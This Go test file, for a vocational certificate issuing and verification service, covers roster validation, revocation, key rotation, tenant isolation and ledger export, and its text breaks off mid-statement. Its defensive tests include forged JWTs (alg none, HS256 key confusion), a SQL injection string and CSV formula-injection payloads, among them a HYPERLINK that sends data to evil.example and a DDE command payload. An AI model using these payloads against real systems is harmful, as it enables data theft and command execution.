package issuer_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"encoding/csv"
	"fmt"
	"io"
	"log/slog"
	"path/filepath"
	"reflect"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"
	"github.com/xuri/excelize/v2"

	"certd/issuer"
	"certd/issuer/credential"
	"certd/issuer/ident"
	"certd/issuer/keys"
	"certd/issuer/store/postgres/pgtest"
	"certd/issuer/store/sqlite"
	"certd/verify"
)

// fixture is a service on a real SQLite store in a temp dir, with an
// authority and one registered college.
type fixture struct {
	t     testing.TB
	ctx   context.Context
	svc   *issuer.Service
	store issuer.Store
	kek   *keys.KEK
	now   time.Time
	admin issuer.Actor
	inst  issuer.Institution
}

var (
	authority = issuer.Actor{Name: "test:authority", Authority: true}
	clerk     = issuer.Actor{Name: "test:clerk", InstitutionID: "jlvtc"}
)

// backends are the real engines every service test runs on.
var backends = []struct {
	name string
	open func(t testing.TB) issuer.Store
}{
	{"sqlite", func(t testing.TB) issuer.Store {
		st, err := sqlite.Open(context.Background(), filepath.Join(t.TempDir(), "certd.db"))
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { st.Close() })
		return st
	}},
	{"postgres", func(t testing.TB) issuer.Store { return pgtest.Open(t) }},
}

// each runs test on a fresh fixture per backend.
func each(t *testing.T, test func(t *testing.T, f *fixture)) {
	for _, b := range backends {
		t.Run(b.name, func(t *testing.T) { test(t, newFixtureOn(t, b.open(t))) })
	}
}

func newFixture(t *testing.T) *fixture { return newFixtureOn(t, backends[0].open(t)) }

func newFixtureOn(t testing.TB, st issuer.Store) *fixture {
	t.Helper()
	ctx := context.Background()
	kek, err := keys.NewKEK(bytes.Repeat([]byte{1}, 32))
	if err != nil {
		t.Fatal(err)
	}
	f := &fixture{t: t, ctx: ctx, store: st, kek: kek, admin: authority,
		now: time.Date(2026, 6, 30, 2, 0, 0, 0, time.UTC)}
	f.svc = issuer.New(st, kek)
	f.svc.Now, f.svc.Log = func() time.Time { return f.now }, slog.New(slog.DiscardHandler)
	if _, err := f.svc.Init(ctx, authority, "吉林省人力资源和社会保障厅"); err != nil {
		t.Fatal(err)
	}
	f.inst = f.register("jlvtc", "Y000022000001")
	f.now = f.now.Add(time.Minute)
	return f
}

func (f *fixture) register(id, prefix string) issuer.Institution {
	f.t.Helper()
	in, err := f.svc.AddInstitution(f.ctx, authority, issuer.InstitutionSpec{
		ID: id, Name: "吉林测试职业技术学院" + id, USCC: "12220000MB0123457W", Prefix: prefix, FilingNo: "吉人社认备〔2026〕" + id,
		ValidFrom: "2026-01-01",
		Scope: []issuer.ScopeSpec{
			{Occupation: "4-04-05-05", Levels: []string{"5", "4", "3"}},
			{Occupation: "6-18-02-04", Specialty: "电焊工", Levels: []string{"五级", "四级", "三级"}},
			{Occupation: "4-01-06-01", Levels: []string{"3", "2"}},
		},
	})
	if err != nil {
		f.t.Fatalf("register %s: %v", id, err)
	}
	return in
}

const header = "姓名,证件类型,证件号码,职业编码,工种,等级,考生类别,学号,专业,考核日期\n"

// rosterRow makes a valid row for person i.
func rosterRow(i int, name, occ, spec, level, kind string) string {
	id := ident.CompleteResidentID(fmt.Sprintf("220102200%d%02d%02d%03d", i%10, 1+i%12, 1+i%28, i%1000))
	return fmt.Sprintf("%s,居民身份证,%s,%s,%s,%s,%s,S%05d,软件技术,2026-06-20\n", name, id, occ, spec, level, kind, i)
}

func roster(n int) []byte {
	var b strings.Builder
	b.WriteString(header)
	names := []string{"欧阳娜娜", "阿卜杜热合曼·买买提", "𠮷野家", "龘", "王䶮", "张三"}
	for i := range n {
		b.WriteString(rosterRow(i, names[i%len(names)], "4-04-05-05", "", "三级/高级工", "毕业年度学生"))
	}
	return []byte(b.String())
}

func (f *fixture) verifier(online bool) *verify.Verifier {
	f.t.Helper()
	tb, err := f.svc.TrustBundle(f.ctx)
	if err != nil {
		f.t.Fatal(err)
	}
	reg, err := verify.NewRegistry(&tb)
	if err != nil {
		f.t.Fatal(err)
	}
	v := &verify.Verifier{Registry: reg, Now: func() time.Time { return f.now }}
	if online {
		v.Status = verify.StoreStatus{Store: f.store}
	}
	return v
}

func (f *fixture) issue(actor issuer.Actor, data []byte) *issuer.IssueReport {
	f.t.Helper()
	rep, err := f.svc.Issue(f.ctx, actor, issuer.IssueRequest{InstitutionID: "jlvtc", Roster: data, Filename: "roster.csv"})
	if err != nil {
		f.t.Fatalf("issue: %v", err)
	}
	return rep
}

func TestIssueHundredAndVerify(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rep := f.issue(clerk, roster(100))
		if len(rep.Problems) > 0 {
			t.Fatalf("problems: %+v", rep.Problems)
		}
		if len(rep.Issued) != 100 {
			t.Fatalf("issued %d, want 100", len(rep.Issued))
		}
		v := f.verifier(true)
		for i, c := range rep.Issued {
			want := fmt.Sprintf("Y000022000001263%06d", i+1)
			if c.Number != want {
				t.Errorf("certificate %d numbered %s, want %s", i, c.Number, want)
			}
			res := v.VerifyToken(f.ctx, c.Token)
			if res.Verdict != verify.Valid {
				t.Fatalf("%s: verdict %s, checks %+v", c.Number, res.Verdict, res.Checks)
			}
			if res.Claims.CredentialSubject.Name != c.Holder.Name {
				t.Errorf("signed name %q, record %q", res.Claims.CredentialSubject.Name, c.Holder.Name)
			}
			if strings.Contains(c.Token, c.Holder.DocNumber) {
				t.Fatal("the ID number appears in clear in the token")
			}
			if !res.Claims.CredentialSubject.DocHash.Matches(string(c.Holder.DocType), c.Holder.DocNumber) {
				t.Error("doc hash does not match the holder's number")
			}
			if res.Claims.CredentialSubject.DocHash.Matches(string(c.Holder.DocType), ident.CompleteResidentID("22010219990101001")) {
				t.Error("doc hash matches a different number")
			}
		}
		// Offline, with only the trust bundle, status cannot be checked.
		res := f.verifier(false).VerifyToken(f.ctx, rep.Issued[0].Token)
		if res.Verdict != verify.Undecided || res.Outcome(verify.CheckStatus) != verify.Unknown || res.Outcome(verify.CheckSignature) != verify.Pass {
			t.Errorf("offline: verdict %s checks %+v", res.Verdict, res.Checks)
		}
	})
}

func TestOneBadRowIssuesNothing(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		data := roster(100)
		lines := strings.Split(string(data), "\n")
		// Row 58 as Excel shows it (header is row 1): break its ID checksum.
		fields := strings.Split(lines[57], ",")
		last := fields[2][17]
		fields[2] = fields[2][:17] + string("0123456789X"[(strings.IndexByte("0123456789X", last)+1)%11])
		lines[57] = strings.Join(fields, ",")
		rep := f.issue(clerk, []byte(strings.Join(lines, "\n")))
		if len(rep.Problems) != 1 || rep.Problems[0].Row != 58 || rep.Problems[0].Field != "doc_number" || rep.Problems[0].Code != "id_checksum" {
			t.Fatalf("problems = %+v, want one id_checksum problem on row 58", rep.Problems)
		}
		if rep.Problems[0].Zh == "" || rep.Problems[0].En == "" {
			t.Error("problem lacks a bilingual reason")
		}
		certs, err := f.store.Certificates(f.ctx, issuer.CertificateFilter{})
		if err != nil || len(certs) != 0 {
			t.Fatalf("store has %d certificates after a rejected roster (%v)", len(certs), err)
		}
		evs, _ := f.store.Audit(f.ctx, issuer.AuditFilter{Action: "certificate.issue"})
		if len(evs) != 0 {
			t.Fatalf("audit has %d issue events after a rejected roster", len(evs))
		}
	})
}

func TestIdempotentRoster(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		first := f.issue(clerk, roster(5))
		again := f.issue(clerk, roster(5))
		if !again.AlreadyIssued || again.Batch.ID != first.Batch.ID || len(again.Issued) != 0 {
			t.Fatalf("second import: already=%v batch=%v issued=%d", again.AlreadyIssued, again.Batch, len(again.Issued))
		}
		certs, _ := f.store.Certificates(f.ctx, issuer.CertificateFilter{})
		if len(certs) != 5 {
			t.Fatalf("store has %d certificates, want 5", len(certs))
		}
	})
}

func TestRules(t *testing.T) {
	tests := []struct {
		name, row, code string
	}{
		{"unknown occupation", rosterRow(1, "张三", "4-99-99-99", "", "3", "毕业年度学生"), "occupation_unknown"},
		{"out of scope occupation", rosterRow(1, "张三", "4-03-02-01", "", "3", "毕业年度学生"), "out_of_scope"},
		{"out of scope level", rosterRow(1, "张三", "4-01-06-01", "", "4", "社会人员"), "out_of_scope"},
		{"student above level 3", rosterRow(1, "张三", "4-01-06-01", "", "2", "在校生"), "student_level_cap"},
		{"unknown specialty", rosterRow(1, "张三", "6-18-02-04", "水下焊工", "3", "毕业年度学生"), "specialty_unknown"},
		{"specialty level undefined", rosterRow(1, "张三", "6-18-02-04", "电焊工", "3", "毕业年度学生"), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := newFixture(t)
			rep := f.issue(clerk, []byte(header+tt.row))
			if tt.code == "" {
				if len(rep.Problems) != 0 {
					t.Fatalf("unexpected problems %+v", rep.Problems)
				}
				return
			}
			if len(rep.Problems) == 0 || rep.Problems[0].Code != tt.code || rep.Problems[0].Row != 2 {
				t.Fatalf("problems = %+v, want %s on row 2", rep.Problems, tt.code)
			}
		})
	}
}

func TestDuplicateHolding(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.issue(clerk, []byte(header+rosterRow(7, "张三", "4-04-05-05", "", "3", "毕业年度学生")))
		// Same person, same occupation and level, in a different roster.
		rep := f.issue(clerk, []byte(header+rosterRow(8, "李四", "4-04-05-05", "", "4", "毕业年度学生")+rosterRow(7, "张三", "4-04-05-05", "", "3", "毕业年度学生")))
		if len(rep.Problems) != 1 || rep.Problems[0].Code != "duplicate_holding" || rep.Problems[0].Row != 3 {
			t.Fatalf("problems = %+v", rep.Problems)
		}
		if !strings.Contains(rep.Problems[0].Zh, "Y000022000001263000001") {
			t.Errorf("duplicate problem does not name the existing certificate: %s", rep.Problems[0].Zh)
		}
		// Another college learns that the person is certified, not the number.
		f.register("other", "Y000022000002")
		otherClerk := issuer.Actor{Name: "test:other", InstitutionID: "other"}
		rep, err := f.svc.Issue(f.ctx, otherClerk, issuer.IssueRequest{InstitutionID: "other", Roster: []byte(header + rosterRow(7, "张三", "4-04-05-05", "", "3", "毕业年度学生")), Filename: "o.csv", DryRun: true})
		if err != nil || len(rep.Problems) != 1 || rep.Problems[0].Code != "duplicate_holding" || strings.Contains(rep.Problems[0].Zh+rep.Problems[0].En, "Y000022000001263") {
			t.Errorf("another college's duplicate: %+v %v", rep, err)
		}
	})
}

func TestInstitutionStatusAndValidity(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		if _, err := f.svc.SetStatus(f.ctx, authority, "jlvtc", issuer.Suspended, "抽查不合格"); err != nil {
			t.Fatal(err)
		}
		_, err := f.svc.Issue(f.ctx, clerk, issuer.IssueRequest{InstitutionID: "jlvtc", Roster: roster(1), Filename: "r.csv"})
		if e, ok := issuer.AsError(err); !ok || e.Code != "institution_suspended" {
			t.Fatalf("suspended institution issued: %v", err)
		}
		if _, err := f.svc.SetStatus(f.ctx, authority, "jlvtc", issuer.Active, ""); err != nil {
			t.Fatal(err)
		}
		f.now = time.Date(2029, 1, 2, 0, 0, 0, 0, time.UTC) // registration ended 2028-12-31
		_, err = f.svc.Issue(f.ctx, clerk, issuer.IssueRequest{InstitutionID: "jlvtc", Roster: roster(1), Filename: "r.csv"})
		if e, ok := issuer.AsError(err); !ok || e.Code != "registration_expired" {
			t.Fatalf("expired registration issued: %v", err)
		}
		vs, _ := f.store.InstitutionVersions(f.ctx, "jlvtc")
		if len(vs) != 3 || vs[1].Status != issuer.Suspended || vs[2].Status != issuer.Active {
			t.Fatalf("versions not kept: %d", len(vs))
		}
	})
}

func TestSuspensionDoesNotInvalidateEarlierCertificates(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rep := f.issue(clerk, roster(1))
		f.now = f.now.Add(time.Hour)
		if _, err := f.svc.SetStatus(f.ctx, authority, "jlvtc", issuer.Suspended, ""); err != nil {
			t.Fatal(err)
		}
		if res := f.verifier(true).VerifyToken(f.ctx, rep.Issued[0].Token); res.Verdict != verify.Valid {
			t.Fatalf("certificate issued before suspension: %s %+v", res.Verdict, res.Checks)
		}
	})
}

func TestRevoke(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rep := f.issue(clerk, roster(2))
		n := rep.Issued[0].Number
		if _, err := f.svc.Revoke(f.ctx, clerk, n, "bogus", ""); !issuer.Is(err, issuer.ErrInvalid) {
			t.Fatalf("bogus reason accepted: %v", err)
		}
		var wg sync.WaitGroup
		errs := make(chan error, 4)
		for range 4 {
			wg.Go(func() {
				_, err := f.svc.Revoke(f.ctx, clerk, n, issuer.ReasonMisconduct, "考试作弊")
				errs <- err
			})
		}
		wg.Wait()
		close(errs)
		ok := 0
		for err := range errs {
			switch {
			case err == nil:
				ok++
			case !issuer.Is(err, issuer.ErrConflict):
				t.Errorf("concurrent revoke: %v", err)
			}
		}
		if ok != 1 {
			t.Fatalf("%d concurrent revocations succeeded, want exactly 1", ok)
		}
		res := f.verifier(true).VerifyToken(f.ctx, rep.Issued[0].Token)
		if res.Verdict != verify.Revoked {
			t.Fatalf("verdict %s after revocation", res.Verdict)
		}
		hist, _ := f.store.Audit(f.ctx, issuer.AuditFilter{Subject: n})
		if len(hist) != 2 || hist[1].Action != "certificate.revoke" || hist[1].Actor != clerk.Name {
			t.Fatalf("audit = %+v", hist)
		}
	})
}

func TestReissue(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		rep := f.issue(clerk, roster(1))
		old := rep.Issued[0]
		repl, err := f.svc.Reissue(f.ctx, clerk, old.Number, issuer.Correction{Name: "欧阳娜", Reason: "姓名录入错误"})
		if err != nil {
			t.Fatal(err)
		}
		if repl.Number == old.Number || repl.Supersedes != old.Number || repl.Holder.Name != "欧阳娜" {
			t.Fatalf("reissue = %+v", repl)
		}
		got, _ := f.store.Certificate(f.ctx, old.Number)
		if got.Status != issuer.Superseded || got.SupersededBy != repl.Number {
			t.Fatalf("old certificate after reissue: %s %s", got.Status, got.SupersededBy)
		}
		v := f.verifier(true)
		if res := v.VerifyToken(f.ctx, old.Token); res.Verdict != verify.Superseded {
			t.Errorf("old token verdict %s", res.Verdict)
		}
		if res := v.VerifyToken(f.ctx, repl.Token); res.Verdict != verify.Valid {
			t.Errorf("new token verdict %s %+v", res.Verdict, res.Checks)
		}
		if _, err := f.svc.Reissue(f.ctx, clerk, old.Number, issuer.Correction{Name: "欧阳娜娜"}); !issuer.Is(err, issuer.ErrConflict) {
			t.Errorf("reissue of a superseded certificate: %v", err)
		}
	})
}

// A correction is checked as a roster row is, length limits included: what
// an import would refuse, a reissue refuses, and the old certificate stays
// valid with nothing new signed.
func TestReissueChecksLikeARosterRow(t *testing.T) {
	spec := func(s string) *string { return &s }
	tests := []struct {
		name string
		fix  issuer.Correction
		code string
	}{
		{"major over the roster's limit", issuer.Correction{Major: strings.Repeat("专", 101)}, "too_long"},
		{"student number over the roster's limit", issuer.Correction{StudentNo: strings.Repeat("1", 41)}, "too_long"},
		{"ID number with a wrong check digit", issuer.Correction{DocNumber: "220102200401010010"}, "id_checksum"},
		{"name with a character no name has", issuer.Correction{Name: "张\ue000"}, "name_char"},
		{"unknown level", issuer.Correction{Level: "九级"}, "level_invalid"},
		{"student above 三级", issuer.Correction{Level: "1"}, "student_level_cap"},
		{"unknown 工种", issuer.Correction{Specialty: spec("水下焊工")}, "specialty_unknown"},
		{"assessed in the future", issuer.Correction{AssessedOn: "2027-01-01"}, "date_future"},
		{"reason over its limit", issuer.Correction{Name: "欧阳娜", Reason: strings.Repeat("因", 501)}, "reason_length"},
	}
	f := newFixture(t)
	old := f.issue(clerk, roster(1)).Issued[0]
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := f.svc.Reissue(f.ctx, clerk, old.Number, tt.fix)
			if e, ok := issuer.AsError(err); !ok || e.Kind != issuer.ErrInvalid || e.Code != tt.code || e.Zh == "" || e.En == "" {
				t.Fatalf("err = %v, want %s", err, tt.code)
			}
		})
	}
	if got, _ := f.svc.Certificate(f.ctx, clerk, old.Number); got.Status != issuer.Valid {
		t.Fatalf("the old certificate is %s after refused corrections", got.Status)
	}
	if certs, _ := f.store.Certificates(f.ctx, issuer.CertificateFilter{}); len(certs) != 1 {
		t.Fatalf("%d certificates after refused corrections, want 1", len(certs))
	}
}

func TestKeyRotationKeepsOldCertificatesValid(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		before := f.issue(clerk, roster(1)).Issued[0]
		f.now = f.now.Add(time.Hour)
		in, err := f.svc.RotateKey(f.ctx, authority, "jlvtc")
		if err != nil {
			t.Fatal(err)
		}
		if len(in.Keys) != 2 || in.Keys[0].NotAfter.IsZero() || !in.Keys[1].NotAfter.IsZero() {
			t.Fatalf("keys after rotation: %+v", in.Keys)
		}
		f.now = f.now.Add(time.Minute)
		after := f.issue(clerk, []byte(header+rosterRow(500, "李四", "4-04-05-05", "", "4", "毕业年度学生"))).Issued[0]
		if after.KID == before.KID || after.KID != in.Keys[1].KID {
			t.Fatalf("new certificate signed with %s", after.KID)
		}
		v := f.verifier(true)
		for _, c := range []issuer.Certificate{before, after} {
			if res := v.VerifyToken(f.ctx, c.Token); res.Verdict != verify.Valid {
				t.Errorf("%s after rotation: %s %+v", c.Number, res.Verdict, res.Checks)
			}
		}
	})
}

func TestTenantIsolation(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		f.register("other", "Y000022000002")
		rep := f.issue(clerk, roster(1))
		n := rep.Issued[0].Number
		intruder := issuer.Actor{Name: "test:intruder", InstitutionID: "other"}
		auditor := issuer.Actor{Name: "test:auditor", InstitutionID: "jlvtc", ReadOnly: true}
		if _, err := f.svc.Issue(f.ctx, intruder, issuer.IssueRequest{InstitutionID: "jlvtc", Roster: roster(2), Filename: "x.csv"}); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("issue for another college: %v", err)
		}
		if _, err := f.svc.Certificate(f.ctx, intruder, n); !issuer.Is(err, issuer.ErrNotFound) {
			t.Errorf("read another college's certificate: %v", err)
		}
		if _, err := f.svc.Revoke(f.ctx, intruder, n, issuer.ReasonOther, ""); !issuer.Is(err, issuer.ErrNotFound) {
			t.Errorf("revoke another college's certificate: %v", err)
		}
		if _, err := f.svc.Reissue(f.ctx, intruder, n, issuer.Correction{Name: "王五"}); !issuer.Is(err, issuer.ErrNotFound) {
			t.Errorf("reissue another college's certificate: %v", err)
		}
		if _, err := f.svc.Revoke(f.ctx, auditor, n, issuer.ReasonOther, ""); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("auditor revoked: %v", err)
		}
		if list, _ := f.svc.Certificates(f.ctx, intruder, issuer.CertificateFilter{InstitutionID: "jlvtc"}); len(list) != 0 {
			t.Errorf("ledger of another college leaked %d rows", len(list))
		}
		if _, err := f.svc.AddInstitution(f.ctx, clerk, issuer.InstitutionSpec{}); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a college registered an institution: %v", err)
		}
		if _, err := f.svc.RotateKey(f.ctx, clerk, "jlvtc"); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a college rotated its registered key: %v", err)
		}
		provinceAuditor := issuer.Actor{Name: "test:province-auditor", Authority: true, ReadOnly: true}
		if _, err := f.svc.SetStatus(f.ctx, provinceAuditor, "jlvtc", issuer.Suspended, ""); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a province auditor suspended a college: %v", err)
		}
		if _, err := f.svc.RotateKey(f.ctx, provinceAuditor, "jlvtc"); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a province auditor rotated a key: %v", err)
		}
		if _, err := f.svc.ImportCatalogue(f.ctx, provinceAuditor, []byte(`{"edition":"2022","occupations":[]}`)); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a province auditor changed the catalogue: %v", err)
		}
		if _, err := f.svc.Revoke(f.ctx, provinceAuditor, n, issuer.ReasonOther, ""); !issuer.Is(err, issuer.ErrForbidden) {
			t.Errorf("a province auditor revoked: %v", err)
		}
		if _, err := f.svc.Certificate(f.ctx, provinceAuditor, n); err != nil {
			t.Errorf("a province auditor cannot read: %v", err)
		}
	})
}

func TestWrongKEK(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		wrong, _ := keys.NewKEK(bytes.Repeat([]byte{2}, 32))
		svc := issuer.New(f.store, wrong)
		svc.Now = func() time.Time { return f.now }
		_, err := svc.Issue(f.ctx, clerk, issuer.IssueRequest{InstitutionID: "jlvtc", Roster: roster(1), Filename: "r.csv"})
		if e, ok := issuer.AsError(err); !ok || e.Code != "wrong_kek" {
			t.Fatalf("issue with a wrong KEK: %v", err)
		}
		if certs, _ := f.store.Certificates(f.ctx, issuer.CertificateFilter{}); len(certs) != 0 {
			t.Fatal("something was issued with a wrong KEK")
		}
	})
}

func TestInstitutionValidation(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		_, err := f.svc.AddInstitution(f.ctx, authority, issuer.InstitutionSpec{
			ID: "Bad ID", Name: "", USCC: "91350100M000100Y44", Prefix: "Y12", FilingNo: "",
			Scope: []issuer.ScopeSpec{{Occupation: "9-99-99-99", Levels: []string{"3"}}},
		})
		e, ok := issuer.AsError(err)
		if !ok || e.Code != "institution_invalid" {
			t.Fatalf("err = %v", err)
		}
		for _, want := range []string{"机构标识", "机构名称", "统一社会信用代码", "证书编号前缀", "备案编号", "9-99-99-99"} {
			if !strings.Contains(e.Zh, want) {
				t.Errorf("message does not mention %s:\n%s", want, e.Zh)
			}
		}
		// The same prefix cannot belong to two institutions.
		_, err = f.svc.AddInstitution(f.ctx, authority, issuer.InstitutionSpec{ID: "dup", Name: "x", USCC: "12220000MB0123457W", Prefix: "Y000022000001", FilingNo: "1",
			Scope: []issuer.ScopeSpec{{Occupation: "4-04-05-05", Levels: []string{"3"}}}})
		if !issuer.Is(err, issuer.ErrConflict) {
			t.Errorf("duplicate prefix: %v", err)
		}
	})
}

// Forged and altered tokens must never verify.
func TestForgedTokens(t *testing.T) {
	each(t, func(t *testing.T, f *fixture) {
		good := f.issue(clerk, roster(1)).Issued[0].Token
		v := f.verifier(true)
		parts := strings.Split(good, ".")
		var claims credential.CertificateClaims
		if _, err := credential.Decode(good, credential.TypeCertificate, &claims); err != nil {
			t.Fatal(err)
		}
		_, stranger, _ := ed25519.GenerateKey(nil)
		pubJWK := f.inst.Keys[0].PublicKey

		claims.CredentialSubject.Achievement.LevelName = "一级/高级技师"
		edited, _ := jwt.NewWithClaims(jwt.SigningMethodEdDSA, &claims).SignedString(stranger)
		editedParts := strings.Split(edited, ".")
		hs := jwt.NewWithClaims(jwt.SigningMethodHS256, &claims)
		hs.Header["typ"], hs.Header["kid"] = "vc+jwt", credential.KID(pubJWK)
		hsTok, _ := hs.SignedString([]byte(pubJWK))
		none := jwt.NewWithClaims(jwt.SigningMethodNone, &claims)
		none.Header["typ"], none.Header["kid"] = "vc+jwt", credential.KID(pubJWK)
		noneTok, _ := none.SignedString(jwt.UnsafeAllowNoneSignatureType)
		strangerTok, _ := credential.Sign(&claims, credential.TypeCertificate, stranger)

		tests := map[string]string{
			"edited payload":        parts[0] + "." + editedParts[1] + "." + parts[2],
			"alg none":              noneTok,
			"HS256 with public key": hsTok,
			"unknown kid":           strangerTok,
			"truncated":             good[:len(good)-5],
			"garbage":               "not a token",
			"empty":                 "",
			"SQL":                   "' OR 1=1 --",
			"swapped signature":     parts[0] + "." + parts[1] + "." + strings.Split(strangerTok, ".")[2],
		}
		for name, tok := range tests {
			res := v.VerifyToken(f.ctx, tok)
			if res.Verdict != verify.Invalid {
				t.Errorf("%s: verdict %s, want invalid (checks %+v)", name, res.Verdict, res.Checks)
			}
		}
	})
}

// Re-entering a registration keeps what the spec does not carry: the
// college's print settings, and fees unless new ones are given.
func TestUpdateKeepsPrintSettingsAndFees(t *testing.T) {
	f := newFixture(t)
	if _, err := f.svc.SetPrintSettings(f.ctx, clerk, "jlvtc", issuer.PrintSettings{Layout: "preprinted", OffsetX: 1.5}); err != nil {
		t.Fatal(err)
	}
	in, err := f.svc.UpdateInstitution(f.ctx, authority, issuer.InstitutionSpec{
		ID: "jlvtc", Name: "吉林测试职业技术学院（更名）", USCC: "12220000MB0123457W", Prefix: "Y000022000001", FilingNo: "吉人社认备〔2026〕jlvtc",
		ValidFrom: "2026-01-01", Scope: []issuer.ScopeSpec{{Occupation: "4-04-05-05", Levels: []string{"3"}}},
	})
	if err != nil {
		t.Fatal(err)
	}
	if in.Print.Layout != "preprinted" || in.Print.OffsetX != 1.5 || in.Name != "吉林测试职业技术学院（更名）" || len(in.Keys) != 1 {
		t.Fatalf("after update: %+v", in)
	}
	stored, _ := f.store.Institution(f.ctx, "jlvtc")
	if stored.Print.Layout != "preprinted" {
		t.Fatalf("stored print settings lost: %+v", stored.Print)
	}
}

// A record that verifies but is not the one in the register (here: signed
// with the institution's retired key after rotation, reusing a valid
// number under another name) is not valid.
func TestPresentedRecordMustBeTheRegisteredOne(t *testing.T) {
	f := newFixture(t)
	orig := f.issue(clerk, roster(1)).Issued[0]
	ks, _ := f.store.SigningKeys(f.ctx, "jlvtc")
	oldPriv, err := f.kek.Open(ks[0].Sealed, "institution", ks[0].KID)
	if err != nil {
		t.Fatal(err)
	}
	var claims credential.CertificateClaims
	if _, err := credential.Decode(orig.Token, credential.TypeCertificate, &claims); err != nil {
		t.Fatal(err)
	}
	claims.CredentialSubject.Name = "冒名者"
	forged, err := credential.Sign(&claims, credential.TypeCertificate, oldPriv)
	if err != nil {
		t.Fatal(err)
	}
	res := f.verifier(true).VerifyToken(f.ctx, forged)
	if res.Verdict != verify.Invalid || res.Outcome(verify.CheckSignature) != verify.Pass || res.Outcome(verify.CheckStatus) != verify.Fail {
		t.Fatalf("a re-signed record with the same number: %s %+v", res.Verdict, res.Checks)
	}
}

// The ledger is the same for the console and the command line: every record
// the actor may see, ID numbers kept as text, other colleges left out.
func TestWriteLedger(t *testing.T) {
	f := newFixture(t)
	f.register("other", "Y000022000002")
	issued := f.issue(clerk, roster(3)).Issued
	var buf bytes.Buffer
	n, err := f.svc.WriteLedger(f.ctx, issuer.Actor{Name: "x", InstitutionID: "other"}, issuer.CertificateFilter{}, "xlsx", &buf)
	if err != nil || n != 0 {
		t.Fatalf("another college's ledger: %d rows, %v", n, err)
	}
	buf.Reset()
	if n, err = f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "xlsx", &buf); err != nil || n != 3 {
		t.Fatalf("ledger: %d rows, %v", n, err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	rows, _ := x.GetRows("台账 Ledger")
	if len(rows) != 4 || rows[1][0] != issued[0].Number || rows[1][4] != issued[0].Holder.DocNumber || rows[1][1] != "有效" {
		t.Fatalf("ledger rows: %v", rows)
	}
	// The mail-merge columns: code, link, claim.
	last := len(issuer.LedgerColumns) - 1
	if len(rows[1]) != len(issuer.LedgerColumns) || rows[1][last-2] != issued[0].VerifyCode ||
		!strings.HasSuffix(rows[1][last-1], "/v/"+issued[0].Number+"?c="+issued[0].VerifyCode) || !strings.HasPrefix(rows[1][last], "未领取") {
		t.Fatalf("ledger row: %v", rows[1])
	}
	if _, err := f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "pdf", &buf); !issuer.Is(err, issuer.ErrInvalid) {
		t.Errorf("unknown format: %v", err)
	}
}

// A ledger cell the college wrote (学号, 专业, a revocation note) that
// starts like a formula must not run as one when the CSV is opened in a
// spreadsheet: it is written as text, as the XLSX ledger types it.
func TestLedgerCSVDefusesFormulas(t *testing.T) {
	f := newFixture(t)
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A2,"点击")`, "+1+1", "-2+3", "@SUM(1)"}
	var b strings.Builder
	b.WriteString(header)
	for i, p := range payloads {
		// The roster is CSV itself: quote the payload as a cell.
		row := rosterRow(i, "张三", "4-04-05-05", "", "三级/高级工", "毕业年度学生")
		row = strings.Replace(row, "软件技术", `"`+strings.ReplaceAll(p, `"`, `""`)+`"`, 1)
		b.WriteString(row)
	}
	rep := f.issue(clerk, []byte(b.String()))
	if len(rep.Problems) > 0 {
		t.Fatalf("problems: %+v", rep.Problems)
	}
	if _, err := f.svc.Revoke(f.ctx, clerk, rep.Numbers[0], issuer.ReasonOther, "=cmd|' /C calc'!A0"); err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	if _, err := f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "csv", &buf); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && strings.Trim(cell, "-") != "" {
				t.Errorf("CSV cell %q starts like a formula", cell)
			}
			for _, p := range append(payloads, "=cmd|' /C calc'!A0") {
				if cell == "'"+p {
					seen++
				}
			}
		}
	}
	if seen != len(payloads)+1 {
		t.Fatalf("%d of %d payloads are in the CSV as quoted text", seen, len(payloads)+1)
	}
	// The XLSX ledger keeps them as typed text, unchanged, and no formula.
	buf.Reset()
	if _, err := f.svc.WriteLedger(f.ctx, clerk, issuer.CertificateFilter{}, "xlsx", &buf); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	xrows, _ := x.GetRows("台账 Ledger")
	for r := range xrows {
		for c := range xrows[r] {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, _ := x.GetCellFormula("台账 Ledger", cell); formula != "" {
				t.Errorf("XLSX cell %s has a formula %q", cell, formula)
			}
		}
	}
	if xrows[1][6] != payloads[0] {
